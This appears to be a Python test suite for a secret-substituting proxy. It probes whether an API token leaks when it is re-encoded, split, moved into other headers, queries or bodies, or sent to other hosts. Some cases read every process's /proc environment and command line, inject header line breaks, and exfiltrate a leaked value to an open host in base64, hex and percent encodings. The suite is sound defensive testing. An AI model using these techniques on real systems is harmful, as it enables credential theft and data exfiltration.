"""Which shapes and places of a placeholder would be exchanged for the value?"""
from attack import *

#: A value that came into the wrong hands in some other way. It is no part of the environment.
LEAKED = open("leaked.txt").read()


def send(name, headers=(), target="/hello", host=API, method="GET", body=b""):
    ATTACKS[f"shape_{name}"] = lambda mark: ask(mark, target, host=host, auth="", headers=headers, method=method, body=body)


half = len(TOKEN) // 2
b64 = base64.b64encode(TOKEN.encode()).decode()
send("upper", [f"Authorization: Bearer {TOKEN.upper()}"])
send("lower", [f"Authorization: Bearer {TOKEN.lower()}"])
send("percent", ["Authorization: Bearer " + "".join(f"%{ord(c):02x}" for c in TOKEN)])
send("base64", [f"Authorization: Bearer {b64}"])
send("basic", ["Authorization: Basic " + base64.b64encode(f"u:{TOKEN}".encode()).decode()])
send("doubled", [f"Authorization: Bearer {TOKEN}{TOKEN}"])
send("adjacent", [f"Authorization: Bearer {TOKEN},{TOKEN}"])
send("before", [f"Authorization: Bearer x{TOKEN}"])
send("after", [f"Authorization: Bearer {TOKEN}x"])
send("no_scheme", [f"Authorization: {TOKEN}"])
send("parameters", [f'Authorization: Digest username="a", response="{TOKEN}"'])
send("split", [f"Authorization: Bearer {TOKEN[:half]}", f"Authorization: {TOKEN[half:]}"])
send("twice", [f"Authorization: Bearer {TOKEN}", f"X-Copy: {TOKEN}"])
send("other_header", [f"X-Api-Key: {TOKEN}"])
send("query", target=f"/hello?key={TOKEN}")
send("body", method="POST", body=f'{{"t":"{TOKEN}"}}'.encode(), headers=["Content-Type: application/json"])
send("to_other", [f"Authorization: Bearer {TOKEN}"], host=OTHER)
send("to_other_slot", [f"X-Api-Key: {TOKEN}"], host=OTHER)
send("to_open", [f"Authorization: Bearer {TOKEN}"], host=OPEN)
send("of_other", [f"Authorization: Bearer {OTHER_TOKEN}"])


@attack
def shape_to_plain(mark):
    """In clear, to a host that is approved without a secret."""
    return ask_plain(mark, "/hello", auth=TOKEN)


@attack
def ok_other(mark):
    return ask(mark, "/hello", host=OTHER, headers=[f"X-Api-Key: {OTHER_TOKEN}"])


@attack
def line_ends(mark):
    """A secret whose value has a line end in it would add a header of its own."""
    return ask(mark, "/hello", host=OTHER, headers=[f"X-Api-Key: {os.environ.get('BAD_TOKEN', '')}"])


@attack
def processes(mark):
    """Arguments and environment of every process that can be seen from here."""
    state.sent = True
    seen = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for what in ("environ", "cmdline"):
            try:
                seen.append(open(f"/proc/{pid}/{what}", "rb").read())
            except OSError:
                pass
    return b"\n".join(seen)


def leak(name, **how):
    ATTACKS[f"leaked_{name}"] = lambda mark: ask(mark, how.get("target", "/hello"), host=how.get("host", OPEN), auth="",
                                                 headers=how.get("headers", ()), method="POST" if "body" in how else "GET",
                                                 body=how.get("body", b""))


hexed = LEAKED.encode().hex()
leak("bearer", headers=[f"Authorization: Bearer {LEAKED}"], host=API)
leak("header", headers=[f"X-Note: {LEAKED}"])
leak("query", target=f"/hello?note={LEAKED}")
leak("path", target=f"/hello/{LEAKED}")
leak("base64", target="/hello?note=" + base64.urlsafe_b64encode(LEAKED.encode()).decode())
leak("hex", target=f"/hello?note={hexed}")
leak("percent", target="/hello?note=" + "".join(f"%{byte:02x}" for byte in LEAKED.encode()))
leak("body", body=f"note={LEAKED}".encode())
leak("body_base64", body=base64.b64encode(b"note " + LEAKED.encode()))
